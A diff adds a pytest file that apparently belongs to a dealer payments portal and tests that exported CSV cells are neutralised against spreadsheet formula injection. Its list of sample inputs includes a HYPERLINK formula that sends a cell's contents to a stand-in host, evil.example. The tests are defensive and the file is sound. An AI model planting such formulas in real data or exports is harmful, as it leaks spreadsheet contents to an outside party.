@@ -1,0 +1,54 @@
+"""Edges an attacker pokes at: formulas in exported CSV cells, login timing, throttles on failed and anonymous API
+requests (also with the cache down)."""
+import csv
+import datetime
+import io
+from decimal import Decimal
+
+import pytest
+
+from dealers.tests.factories import DealerFactory
+from payments.services import statements
+from payments.tests.factories import InvoiceFactory, PaymentFactory
+from portal.csv import safe_cell
+
+D = Decimal
+DAY = datetime.date(2026, 3, 1)
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+90 555 1234", "-2+3", "@SUM(1+1)",
+            "\tTAB", "\rCR"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(text):
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["EFT 9", "", "2026-03-01", "Ödeme – Şubat", D("-12.50"), D("7.00"), 3, None])
+def test_harmless_cells_and_numbers_stay_as_they_are(value):
+    assert safe_cell(value) == value
+
+
+@pytest.fixture
+def hostile_ledger(db):
+    dealer = DealerFactory(code="EVIL01")
+    InvoiceFactory(dealer=dealer, number="INV-E", total_gross=D("100.00"), issue_date=DAY)
+    for n, text in enumerate(FORMULAS):
+        PaymentFactory(dealer=dealer, number=f"PAY-E{n}", amount=D("150.00"), received_on=DAY, reference=text)
+    return dealer
+
+
+def test_the_accounting_export_neutralises_payment_references_and_keeps_amounts_numbers(hostile_ledger):
+    text = statements.accounting_export_csv(date_from=DAY, date_to=DAY)
+    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(text))}
+    for n, formula in enumerate(FORMULAS):
+        assert rows[f"PAY-E{n}"]["reference"] == "'" + formula
+        assert rows[f"PAY-E{n}"]["credit"] == "150.00"
+    assert rows["INV-E"]["debit"] == "100.00"
+
+
+def test_the_statement_csv_neutralises_descriptions_and_keeps_a_negative_balance_a_number(hostile_ledger):
+    found = statements.build_statement(dealer=hostile_ledger, date_from=DAY, date_to=DAY)
+    rows = list(csv.reader(io.StringIO(statements.statement_csv(found))))
+    descriptions = [row[3] for row in rows[2:-1] if row[1] == "Payment"]
+    assert descriptions and all(not d.startswith(("=", "+", "-", "@", "\t", "\r")) for d in descriptions)
+    assert rows[-1][-1] == str(found.closing) and found.closing < 0  # -800.00: a number, no quote
